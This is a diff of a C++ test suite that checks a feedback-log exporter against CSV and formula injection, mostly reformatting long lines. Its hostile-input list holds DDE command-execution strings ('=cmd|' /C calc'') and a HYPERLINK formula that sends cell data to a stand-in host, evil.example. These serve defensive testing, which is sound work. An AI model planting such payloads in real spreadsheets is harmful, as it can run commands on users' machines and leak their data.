@@ -17,15 +17,17 @@ bool installed(std::string const& command)
     return false;
 }
 
-/// A shell's line that has LibreOffice read a CSV file and write it as flat XML. The comma, the double quote and UTF-8, as
-/// docs/lecternctl.md says.
+/// A shell's line that has LibreOffice read a CSV file and write it as flat XML. The comma, the double quote and UTF-8,
+/// as docs/lecternctl.md says.
 std::string as_sheet(std::string const& file)
 {
-    return "HOME=\"$PWD\" timeout 300 soffice -env:UserInstallation=file://\"$PWD\"/profile --headless --infilter=CSV:44,34,76,1 --convert-to fods " + file;
+    return "HOME=\"$PWD\" timeout 300 soffice -env:UserInstallation=file://\"$PWD\"/profile --headless "
+           "--infilter=CSV:44,34,76,1 --convert-to fods "
+        + file;
 }
 
-/// Whether LibreOffice is here and whole: its start script alone can be left over, and it can lack Calc. The tests do not ask
-/// for the package (it would drive a desktop's own LibreOffice out); .ci/run does.
+/// Whether LibreOffice is here and whole: its start script alone can be left over, and it can lack Calc. The tests do
+/// not ask for the package (it would drive a desktop's own LibreOffice out); .ci/run does.
 bool converts_sheets()
 {
     if (!installed("soffice"))
@@ -42,10 +44,16 @@ bool converts_sheets()
 /// Everything that might run, break a line, or get lost, in every column that may hold it.
 std::vector<std::string> hostile_texts()
 {
-    std::vector<std::string> texts { "plain", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-1-1", "@SUM(A1:A9)", "\t=1+1",
-        "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "\"=1+1\"", ";=1+1", "a,=1+1", "DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1;2", "a\r\nb", "a\n\nb",
-        "\"\"", "\"", "'", "''", ",,,", "007", "10/10", "1e9", "12345678901234567890", "\xE2\x80\xAEright to left\xE2\x80\xAC", "\xE2\x80\x8F" "عربي", "\xEF\xBB\xBF" "mark",
-        std::string("a\0b", 3), "not \xFF\xFE UTF-8", "\xED\xA0\x80 surrogate", std::string(2000, 'x'), "ends with a backslash\\", "日本語 🙂", "  blanks around  " };
+    std::vector<std::string> texts { "plain", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+        "+1+1", "-1-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1",
+        "\"=1+1\"", ";=1+1", "a,=1+1", "DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1;2", "a\r\nb", "a\n\nb", "\"\"", "\"",
+        "'", "''", ",,,", "007", "10/10", "1e9", "12345678901234567890", "\xE2\x80\xAEright to left\xE2\x80\xAC",
+        "\xE2\x80\x8F"
+        "عربي",
+        "\xEF\xBB\xBF"
+        "mark",
+        std::string("a\0b", 3), "not \xFF\xFE UTF-8", "\xED\xA0\x80 surrogate", std::string(2000, 'x'),
+        "ends with a backslash\\", "日本語 🙂", "  blanks around  " };
     return texts;
 }
 
@@ -53,7 +61,8 @@ void add_hostile_rows(fs::path const& folder)
 {
     REQUIRE(store::FeedbackLog::open(folder, std::chrono::year { 2026 } / 11 / 22));
     SQLite::Database log(folder / "log.db", SQLite::OPEN_READWRITE);
-    SQLite::Statement add(log, "INSERT INTO feedback (id, week, article, language, rating, reasons, comment) VALUES (?, ?, ?, ?, ?, ?, ?)");
+    SQLite::Statement add(log,
+        "INSERT INTO feedback (id, week, article, language, rating, reasons, comment) VALUES (?, ?, ?, ?, ?, ?, ?)");
     int row = 0;
     for (std::string const& text : hostile_texts())
         for (int column = 2; column <= 7; ++column) {
@@ -61,7 +70,11 @@ void add_hostile_rows(fs::path const& folder)
             add.reset();
             add.bind(1, id.data(), 16);
             for (int each = 2; each <= 7; ++each)
-                add.bind(each, each == column ? text : each == 2 ? "2026-W40" : each == 6 ? "[\"hard_to_read\"]" : "usual");
+                add.bind(each,
+                    each == column  ? text
+                        : each == 2 ? "2026-W40"
+                        : each == 6 ? "[\"hard_to_read\"]"
+                                    : "usual");
             add.exec();
         }
 }
@@ -75,7 +88,8 @@ struct Exports {
         add_hostile_rows(data.path());
         for (std::string const format : { "csv", "jsonl", "sqlite" }) {
             fixtures::TemporaryFolder const stick;
-            Outcome const outcome = run({ "feedback", "export", "--to", stick.path(), "--format", format, "--data", data.path() });
+            Outcome const outcome
+                = run({ "feedback", "export", "--to", stick.path(), "--format", format, "--data", data.path() });
             REQUIRE_MESSAGE(outcome.status == 0, outcome.err);
             for (auto const& entry : fs::directory_iterator(stick.path()))
                 if (entry.path().extension() == "." + format)
@@ -121,7 +135,8 @@ rows = list(csv.reader(open("a.csv", encoding="utf-8", newline=""), strict=True)
 compare.compare(rows[0], rows[1:])
 )";
 
-/// LibreOffice's flat XML: no cell may hold a formula, and each is what stood in the file. Its line breaks are all alike.
+/// LibreOffice's flat XML: no cell may hold a formula, and each is what stood in the file. Its line breaks are all
+/// alike.
 constexpr char const* k_read_sheet = R"(
 import re, compare, xml.etree.ElementTree as tree
 TABLE, TEXT = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
@@ -158,7 +173,8 @@ TEST_CASE("Python reads every cell of a hostile CSV export as it was")
     Exports const exports;
     exports.write("compare.py", k_compare);
     exports.write("read.py", k_read_csv);
-    CHECK(contains(exports.run_in("python3 read.py"), std::to_string(hostile_texts().size() * 6) + " rows are the same"));
+    CHECK(
+        contains(exports.run_in("python3 read.py"), std::to_string(hostile_texts().size() * 6) + " rows are the same"));
 }
 
 TEST_CASE("the sqlite3 shell imports a hostile CSV export, and it holds what the SQLite export holds")
@@ -169,14 +185,19 @@ TEST_CASE("the sqlite3 shell imports a hostile CSV export, and it holds what the
     std::string const rows = std::to_string(hostile_texts().size() * 6);
     CHECK(exports.run_in("sqlite3 a.sqlite 'PRAGMA integrity_check'") == "ok\n");
     // The CSV has neither NUL nor the brackets of a list, and an apostrophe before what a spreadsheet would run.
-    std::string same = "exported.repeated = read.repeated AND exported.hidden = read.hidden AND exported.sealed = read.sealed";
+    std::string same
+        = "exported.repeated = read.repeated AND exported.hidden = read.hidden AND exported.sealed = read.sealed";
     for (std::string const column : { "id", "week", "article", "language", "rating", "comment" })
-        same += " AND " + plain("read." + column) + " = replace(hex(ifnull(exported." + column + ", '')), '00', 'EFBFBD')";
+        same += " AND " + plain("read." + column) + " = replace(hex(ifnull(exported." + column
+            + ", '')), '00', 'EFBFBD')";
     // A list of reasons is words in the CSV; what is no such list (only a damaged log holds that) stands as it is.
     std::string const as_stored = "replace(hex(exported.reasons), '00', 'EFBFBD')";
-    same += " AND iif(exported.reasons = '[\"hard_to_read\"]', read.reasons = 'hard_to_read', " + plain("read.reasons") + " = " + as_stored + ")";
-    exports.write("read.sql", ".import --csv a.csv read\nATTACH 'a.sqlite' AS other;\nSELECT count(*) FROM read;\n"
-                              "SELECT count(*) FROM read JOIN other.feedback AS exported ON " + same + ";\n");
+    same += " AND iif(exported.reasons = '[\"hard_to_read\"]', read.reasons = 'hard_to_read', " + plain("read.reasons")
+        + " = " + as_stored + ")";
+    exports.write("read.sql",
+        ".import --csv a.csv read\nATTACH 'a.sqlite' AS other;\nSELECT count(*) FROM read;\n"
+        "SELECT count(*) FROM read JOIN other.feedback AS exported ON "
+            + same + ";\n");
     CHECK(exports.run_in("sqlite3 :memory: < read.sql") == rows + "\n" + rows + "\n");
 }
 
@@ -188,5 +209,6 @@ TEST_CASE("LibreOffice runs nothing of a hostile CSV export and loses nothing")
     static_cast<void>(exports.run_in(as_sheet("a.csv")));
     exports.write("compare.py", k_compare);
     exports.write("read.py", k_read_sheet);
-    CHECK(contains(exports.run_in("python3 read.py"), std::to_string(hostile_texts().size() * 6) + " rows are the same"));
+    CHECK(
+        contains(exports.run_in("python3 read.py"), std::to_string(hostile_texts().size() * 6) + " rows are the same"));
 }
